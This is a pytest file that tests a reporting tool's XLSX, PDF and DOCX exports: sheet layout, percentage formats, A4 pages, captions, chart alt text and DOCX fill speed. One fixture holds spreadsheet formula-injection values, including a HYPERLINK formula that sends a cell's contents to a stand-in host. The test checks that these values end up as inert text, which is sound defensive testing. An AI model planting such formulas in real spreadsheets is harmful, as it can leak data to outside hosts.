"""Committee formats (issue 18): XLSX per report, and PDF and DOCX printed by headless Chromium."""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from browser import require_browser
from qa_lib.running import formats

REPORTS = ("quarterly", "moderation", "feedback", "indicators")


# -- XLSX from a report's fragment --------------------------------------------------------------
def _fixture(tmp_path: Path) -> dict:
    tables = tmp_path / "tables"
    tables.mkdir()
    with open(tables / "r-grades.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["team", "n", "good_or_better", "good_or_better_share", "good_or_better_low_share",
                    "good_or_better_high_share", "summary"])
        w.writerow(["=HYPERLINK(\"http://x.example\"&A2)", "8", "5", "0.625", "0.3057", "0.8632", "+14 points"])
        w.writerow(["@SUM(1)", "0", "0", "", "", "", "-2+3"])
    frag = {"report": "r", "title": "Test report", "provenance": {"period": "2024-25 Q2", "inputs": {"a": "b"}},
            "tables": [{"file": "tables/r-grades.csv", "title": "Grades by team: this period", "note": "A note."},
                       {"file": "rejects.csv", "title": "Input issues"}]}
    return frag


def test_xlsx_has_contents_provenance_and_one_sheet_per_table(tmp_path):
    frag = _fixture(tmp_path)
    path = formats.write_xlsx(frag, tmp_path, tmp_path / "r.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["Contents", "Grades by team  this period", "Provenance"]
    ws = wb["Grades by team  this period"]
    assert ws["A1"].value == "Grades by team: this period"
    assert [c.value for c in ws[3]] == ["Team", "Audits (n)", "Good or better", "% Good or better",
                                        "% Good or better: 95% range from", "% Good or better: 95% range to", "Summary"]
    row = [c for c in ws[4]]
    assert row[1].value == 8 and isinstance(row[1].value, int)
    assert row[3].value == pytest.approx(0.625) and row[3].number_format == "0%"
    assert row[4].value == pytest.approx(0.3057) and row[5].value == pytest.approx(0.8632)
    assert ws.freeze_panes == "A4"
    assert ws["A6"].value is None and ws["A7"].value == "A note."  # a blank row, then the note
    assert wb["Contents"]["A4"].value == "Grades by team  this period"


def test_xlsx_never_writes_a_formula(tmp_path):
    frag = _fixture(tmp_path)
    path = formats.write_xlsx(frag, tmp_path, tmp_path / "r.xlsx")
    wb = load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert '=HYPERLINK("http://x.example"&A2)' in texts and "@SUM(1)" in texts  # kept as text, inert
    # and in the file itself no <f> (formula) element exists
    import zipfile

    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


def test_no_browser_skips_pdf_and_docx_with_one_line(tmp_path, monkeypatch):
    monkeypatch.setattr(formats, "find_browser", lambda: None)
    (tmp_path / "r.html").write_text("<html><body><main><h2>x</h2></main></body></html>", encoding="utf-8")
    out = formats.write_formats(tmp_path, "r", formats=["html", "csv", "pdf", "docx"], title="T", period="P")
    assert out.written == [] and out.skipped == [formats.NO_BROWSER]
    assert "apt-get install chromium" in formats.NO_BROWSER


# -- the demo's PDF, DOCX and XLSX ---------------------------------------------------------------
class _Tables(HTMLParser):
    """Each table's caption, header cells and body rows (cell texts) from a report's HTML."""

    def __init__(self):
        super().__init__()
        self.tables, self._cell, self._row, self._in = [], None, None, None

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append({"caption": "", "head": [], "rows": []})
        elif tag in ("caption",):
            self._in = "caption"
        elif tag == "thead":
            self._in = "thead"
        elif tag == "tbody":
            self._in = "tbody"
        elif tag == "tr" and self.tables:
            self._row = []
        elif tag in ("td", "th") and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self._row.append("".join(self._cell).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None:
            (self.tables[-1]["head"].append if self._in == "thead" else self.tables[-1]["rows"].append)(self._row)
            self._row = None
        elif tag == "caption":
            self._in = None

    def handle_data(self, data):
        if self._in == "caption" and self.tables:
            self.tables[-1]["caption"] += data
        if self._cell is not None:
            self._cell.append(data)


def _html_tables(path: Path) -> list[dict]:
    parser = _Tables()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser.tables


def _squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


@pytest.fixture(scope="module")
def demo_formats(demo_run):
    require_browser()
    return demo_run


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("report", REPORTS)
def test_pdf_is_a4_holds_every_caption_and_last_column_and_splits_no_row(demo_formats, report):
    from pypdf import PdfReader

    folder = Path(demo_formats["out"])
    pdf = folder / f"{report}.pdf"
    assert pdf.is_file(), f"{pdf} was not written"
    reader = PdfReader(pdf)
    sizes = {(round(float(p.mediabox.width)), round(float(p.mediabox.height))) for p in reader.pages}
    assert sizes <= {(596, 843), (843, 596), (595, 842), (842, 595)}, f"pages not A4: {sizes}"
    pages = [p.extract_text() or "" for p in reader.pages]
    whole = _squash("".join(pages))
    squashed_pages = [_squash(p) for p in pages]
    tables = _html_tables(folder / f"{report}.html")
    assert tables, "no tables parsed from the HTML"
    for t in tables:
        assert _squash(t["caption"]) in whole, f"caption missing from the PDF: {t['caption']!r}"
        last_header = t["head"][-1][-1] if t["head"] and t["head"][-1] else ""
        assert all(w in whole for w in map(_squash, last_header.split())), \
            f"last column {last_header!r} of {t['caption']!r} missing from the PDF"
        for row in t["rows"]:
            words = {w for cell in row for w in cell.split()}
            if not words:
                continue
            # a row split across a page break leaves some of its words only on the next page
            assert any(all(w in sp for w in words) for sp in squashed_pages), \
                f"row {row[:3]}… of {t['caption']!r} is not whole on any one page"
    assert reader.outline, "no PDF bookmarks"


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("report", REPORTS)
def test_docx_has_every_table_with_its_caption_and_charts_with_alt_text(demo_formats, report):
    import docx

    folder = Path(demo_formats["out"])
    document = docx.Document(folder / f"{report}.docx")
    tables = _html_tables(folder / f"{report}.html")
    assert len(document.tables) == len(tables)
    captions = [p.text for p in document.paragraphs if p.style.name == "Caption"]
    for t in tables:
        assert t["caption"].strip() in captions
    for word_table, t in zip(document.tables, tables):
        assert word_table.cell(len(word_table.rows) - 1, len(word_table.columns) - 1).text == (t["rows"] or t["head"])[-1][-1]
    html = (folder / f"{report}.html").read_text(encoding="utf-8")
    images = re.findall(r'<img\b[^>]*\balt="([^"]*)"', html)  # alt wherever it stands among the attributes
    assert len(document.inline_shapes) == len(images)
    for shape in document.inline_shapes:
        assert shape._inline.docPr.get("descr"), "a chart without alt text"


@pytest.mark.slow
def test_xlsx_of_each_demo_report(demo_run):
    """One sheet per CSV table (plus contents and provenance), interval ends as numbers with a %
    format beside their estimate, and no formula cell anywhere."""
    folder = Path(demo_run["out"])
    interval_columns = 0
    for report in REPORTS:
        wb = load_workbook(folder / f"{report}.xlsx")
        frag = json.loads((folder / f".{report}.fragment.json").read_text(encoding="utf-8"))
        csv_tables = [t for t in frag["tables"] if t["file"].startswith("tables/")]
        assert wb.sheetnames[0] == "Contents" and wb.sheetnames[-1] == "Provenance"
        assert len(wb.sheetnames) == len(csv_tables) + 2, report
        for ws in wb.worksheets[1:-1]:
            header = [c.value or "" for c in ws[3]]
            for j, name in enumerate(header, 1):
                if "95%" in name:
                    cells = [ws.cell(row=i, column=j) for i in range(4, ws.max_row + 1)]
                    numbers = [c for c in cells if isinstance(c.value, float)]
                    if numbers:
                        interval_columns += 1
                        if name.startswith("%"):  # the range of a share reads as a percentage
                            assert all(c.number_format == "0%" for c in numbers), (report, ws.title, name)
                        if name.lower().startswith(("kappa", "weighted kappa", "ac1", "ac2")):  # a coefficient does not
                            assert all(c.number_format == "General" for c in numbers), (report, ws.title, name)
            assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert interval_columns >= 10, f"only {interval_columns} numeric interval columns across the demo workbooks"


def test_docx_fills_a_long_table_in_one_pass_over_its_cells(tmp_path, monkeypatch):
    """A 12-month highlight report's DOCX took 14 minutes: python-docx's ``Table.cell(i, j)`` and
    ``_Row.cells`` rebuild the whole cell grid on every call, so filling a table through them is at
    least quadratic in its rows. The writer must fill each row from its own XML cells, and every
    cell of a long table must still hold its text."""
    import docx.table

    def refuse(*_args, **_kwargs):
        raise AssertionError("write_docx walked the whole table grid for one cell")

    monkeypatch.setattr(docx.table.Table, "cell", refuse)
    monkeypatch.setattr(docx.table._Row, "cells", property(refuse))
    rows = [["area", "month", "n", "share"]] + [[f"Area {i}", f"M{i % 12}", str(i), f"{i % 100}%"]
                                                  for i in range(400)]
    blocks = [{"kind": "table", "caption": "A long table", "rows": rows, "head": 1}]
    path = formats.write_docx(blocks, {}, title="Long", period="2024-09", path=tmp_path / "long.docx")
    monkeypatch.undo()
    import docx

    table = docx.Document(path).tables[0]
    assert len(table.rows) == 401
    assert [c.text for c in table.rows[-1].cells] == rows[-1]
    assert [c.text for c in table.rows[0].cells] == rows[0]
